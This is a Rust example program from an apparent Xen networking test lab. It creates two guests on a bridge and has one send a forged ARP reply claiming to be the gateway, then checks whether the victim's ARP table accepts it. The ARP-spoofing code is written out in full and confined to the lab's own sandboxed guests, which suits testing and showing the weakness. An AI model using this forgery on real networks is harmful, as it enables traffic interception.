//! Two guests on a bridge; one claims to be the gateway. Who hears it, and who believes it?
//!
//! `cargo run -p lab --example attack -- /etc/xen/scripts`, as root, or behind `unshare -Urnm`. With Xen's own
//! scripts the forgery arrives and is believed.

use std::error::Error;
use std::path::Path;
use std::thread::sleep;
use std::time::Duration;

use lab::frame::{Arp, Ethernet};
use lab::{DomainConfig, Lab, Lookout, Ping};

fn main() -> Result<(), Box<dyn Error>> {
    let scripts = std::env::args_os().nth(1).unwrap_or_else(|| "/etc/xen/scripts".into());
    let lab = Lab::with_scripts(Path::new(&scripts))?;
    lab.add_bridge("xenbr0", &["eth0"])?;
    let mallory = lab.create(&DomainConfig::xl("mallory", &["mac=00:16:3e:00:00:02,ip=10.0.0.2"])?)?;
    let victim = lab.create(&DomainConfig::xl("victim", &["mac=00:16:3e:00:00:03,ip=10.0.0.3"])?)?;
    println!("the victim and the gateway: {}", victim.station().ping(&Ping::to([10, 0, 0, 254]))?);

    // Linux takes a new answer only when the last one is a second old.
    sleep(Duration::from_millis(1100));
    let before = victim.station().beliefs()?;
    let (own, other) = (mallory.station().mac("eth0")?, victim.station().mac("eth0")?);
    let forged = Ethernet::new(own, other).arp(&Arp::reply(own, [10, 0, 0, 254], other, [10, 0, 0, 3]));
    let arrivals = Lookout::around(&lab, &mallory)?.send(mallory.station(), "eth0", &forged)?;
    println!("{forged}\n  arrived at: {arrivals}");
    let stolen = victim.station().beliefs()?.stolen_since(&before);
    for change in &stolen {
        println!("  believed:   {change}");
    }
    if stolen.is_empty() {
        println!("  believed:   by nobody");
    }
    Ok(())
}
